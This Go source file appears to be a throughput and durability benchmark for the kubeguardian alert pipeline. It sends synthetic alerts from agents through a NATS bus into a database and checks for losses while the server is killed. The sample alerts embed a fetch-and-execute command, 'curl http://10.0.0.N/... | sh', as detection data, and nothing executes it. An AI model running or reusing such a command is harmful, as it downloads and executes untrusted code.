// Command bus measures how many alerts go from agents to the store each second:
// through the spool of each agent, the embedded bus and the consumer, into a
// database on disk. It prints what was sent and what is stored, which must be the
// same. With -kills the process with bus and store is killed again and again
// meanwhile.
package main

import (
	"context"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/kubeguardian/kubeguardian/alert"
	"github.com/kubeguardian/kubeguardian/bus"
	"github.com/kubeguardian/kubeguardian/bus/hub"
	"github.com/kubeguardian/kubeguardian/bus/spool"
	"github.com/kubeguardian/kubeguardian/event"
	"github.com/kubeguardian/kubeguardian/finding"
	"github.com/kubeguardian/kubeguardian/store"
)

func main() {
	nodes := flag.Int("nodes", 4, "agents")
	alerts := flag.Int("alerts", 100_000, "alerts of all agents")
	kills := flag.Int("kills", 0, "times that bus and store are killed, one second apart")
	every := flag.Duration("sync", time.Second, "how often the bus forces alerts to the disk; 0: before each acknowledgement")
	serving := flag.String("serve", "", "be the process with bus and store, in this `folder`")
	listen := flag.String("listen", "", "with -serve: its address")
	flag.Parse()
	log := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelError}))
	var err error
	if *serving != "" {
		err = serve(*serving, *listen, *every, log)
	} else {
		err = measure(*nodes, *alerts, *kills, *every)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "bench: error:", err)
		os.Exit(1)
	}
}

// serve takes alerts until it is killed, or until its input ends.
func serve(dir, listen string, every time.Duration, log *slog.Logger) error {
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	db, err := store.Open(ctx, filepath.Join(dir, "bench.db"))
	if err != nil {
		return err
	}
	defer db.Close()
	h, err := hub.Start(hub.Options{
		Listen: listen, Dir: filepath.Join(dir, "bus"), Bytes: 1 << 30, Sync: every, Log: log,
		Node: func(_ context.Context, token string) (string, error) { return token, nil },
	})
	if err != nil {
		return err
	}
	defer h.Stop()
	nc, err := h.Connect()
	if err != nil {
		return err
	}
	defer nc.Close()
	js, err := jetstream.New(nc)
	if err != nil {
		return err
	}
	if err := bus.Prepare(ctx, js, bus.Bounds{AlertBytes: 1 << 30, StateAge: time.Hour}); err != nil {
		return err
	}
	go func() {
		_, _ = io.Copy(io.Discard, os.Stdin)
		cancel()
	}()
	return bus.NewConsumer(func(ctx context.Context, batch []*bus.Message) error {
		list := make([]alert.Alert, 0, len(batch))
		for _, m := range batch {
			list = append(list, m.Alert)
		}
		_, err := db.AddAlerts(ctx, list)
		return err
	}, log).Run(ctx, js)
}

// A served is the process with bus and store.
type served struct {
	cmd   *exec.Cmd
	input io.WriteCloser
}

func startServed(dir, listen string, every time.Duration) (*served, error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	s := &served{cmd: exec.Command(self, "-serve", dir, "-listen", listen, "-sync", every.String())}
	s.cmd.Stderr = os.Stderr
	if s.input, err = s.cmd.StdinPipe(); err != nil {
		return nil, err
	}
	return s, s.cmd.Start()
}

func (s *served) kill() {
	_ = s.cmd.Process.Kill()
	_ = s.cmd.Wait()
}

func measure(nodes, alerts, kills int, every time.Duration) (err error) {
	dir, err := os.MkdirTemp("", "kubeguardian-bus-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	addr := ln.Addr().String()
	if err := ln.Close(); err != nil {
		return err
	}
	s, err := startServed(dir, addr, every)
	if err != nil {
		return err
	}
	defer func() { s.kill() }()
	begin := time.Now()
	var sending sync.WaitGroup
	sent := make([]map[string]bool, nodes)
	errs := make(chan error, nodes)
	for i := range nodes {
		sending.Go(func() {
			var err error
			sent[i], err = send(dir, addr, fmt.Sprint("node-", i), alerts/nodes)
			errs <- err
		})
	}
	for range kills {
		time.Sleep(time.Second)
		s.kill()
		if s, err = startServed(dir, addr, every); err != nil {
			return err
		}
	}
	sending.Wait()
	close(errs)
	for e := range errs {
		if e != nil {
			return e
		}
	}
	fmt.Printf("sent    %d alerts by %d agents, %.0f each second\n", alerts/nodes*nodes, nodes, float64(alerts/nodes*nodes)/time.Since(begin).Seconds())
	err = compare(dir, sent, begin)
	s.kill()
	fmt.Printf("processor  %.3f ms for each alert: %.3f of bus, consumer and store, the rest of agents and this program\n",
		perAlert(alerts, syscall.RUSAGE_SELF)+perAlert(alerts, syscall.RUSAGE_CHILDREN), perAlert(alerts, syscall.RUSAGE_CHILDREN))
	return err
}

// perAlert returns the milliseconds of processor time of this program, or of what it
// has started and seen end.
func perAlert(alerts, who int) float64 {
	var used syscall.Rusage
	if err := syscall.Getrusage(who, &used); err != nil {
		return 0
	}
	return float64(used.Utime.Nano()+used.Stime.Nano()) / 1e6 / float64(alerts)
}

// send sends alerts of a node, and returns their ids as they are in the store.
func send(dir, addr, node string, n int) (map[string]bool, error) {
	log := slog.New(slog.DiscardHandler)
	token := filepath.Join(dir, node)
	if err := os.WriteFile(token, []byte(node), 0o600); err != nil {
		return nil, err
	}
	sp, err := spool.Open(filepath.Join(dir, "spool-"+node), 1<<30)
	if err != nil {
		return nil, err
	}
	defer sp.Close()
	nc, err := bus.Endpoint{URL: "nats://" + addr, TokenFile: token}.ConnectAgent(node, log)
	if err != nil {
		return nil, err
	}
	defer nc.Close()
	p := bus.NewPublisher(node, sp, log)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- p.Run(ctx, nc) }()
	ids := map[string]bool{}
	for i := range n {
		a := sample(node, i)
		if err := p.Publish(&a); err != nil {
			cancel()
			return nil, err
		}
		ids[bus.ID(node, a)] = true
	}
	for p.Stats().Spool.Waiting > 0 {
		time.Sleep(5 * time.Millisecond)
	}
	cancel()
	return ids, <-done
}

// sample is an alert as agents raise them, of about 1.5 KB.
func sample(node string, i int) alert.Alert {
	command := fmt.Sprintf("sh -c curl http://10.0.0.%d/%d | sh", i%250, i)
	return alert.Alert{
		ID: alert.NewID(event.Syscall, fmt.Sprint(node, i), "Shell"), Time: time.Now(), Rule: "Shell", Priority: alert.Warning, Source: event.Syscall, Hostname: node,
		Output: "12:00:00.000000000: Warning " + strings.Repeat("A program was started in a container ", 10) + command,
		OutputFields: map[string]any{
			"proc.cmdline": command, "proc.exepath": "/usr/bin/sh", "evt.time": time.Now().UnixNano(), "container.id": "3f2a9c01d7be", "k8s.pod.name": "web", "k8s.ns.name": "shop",
			"proc.aname[2]": "containerd-shim", "container.image.repository": "registry.example.org/shop/web", "user.name": "root", "proc.pname": "runc",
		},
		Tags: []string{"container", "mitre_execution", "T1059"}, Tactics: []string{"execution"},
		Subject: finding.Subject{APIVersion: "v1", Kind: "Pod", Namespace: "shop", Name: "web", Container: "app"},
	}
}

// compare waits until everything is stored, and holds it against what was sent.
func compare(dir string, sent []map[string]bool, begin time.Time) error {
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(dir, "bench.db"))
	if err != nil {
		return err
	}
	defer db.Close()
	want := 0
	for _, ids := range sent {
		want += len(ids)
	}
	for end := time.Now().Add(2 * time.Minute); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		c, err := db.Counts(ctx)
		if err != nil {
			return err
		}
		if c.Alerts >= want {
			break
		}
	}
	took := time.Since(begin)
	stored, foreign := 0, 0
	for seq := int64(0); ; {
		records, last, err := db.AlertsAfter(ctx, seq, alert.Query{Limit: 1000})
		if err != nil {
			return err
		}
		if len(records) == 0 {
			break
		}
		seq = last
		for _, r := range records {
			known := false
			for _, ids := range sent {
				known = known || ids[r.ID]
				delete(ids, r.ID)
			}
			if stored++; !known {
				foreign++
			}
		}
	}
	fmt.Printf("stored  %d alerts, %.0f each second; %d lost, %d twice or not ours\n", stored, float64(stored)/took.Seconds(), want-(stored-foreign), foreign)
	if stored != want || foreign > 0 {
		return fmt.Errorf("sent %d alerts and stored %d, of which %d twice", want, stored, foreign)
	}
	return nil
}
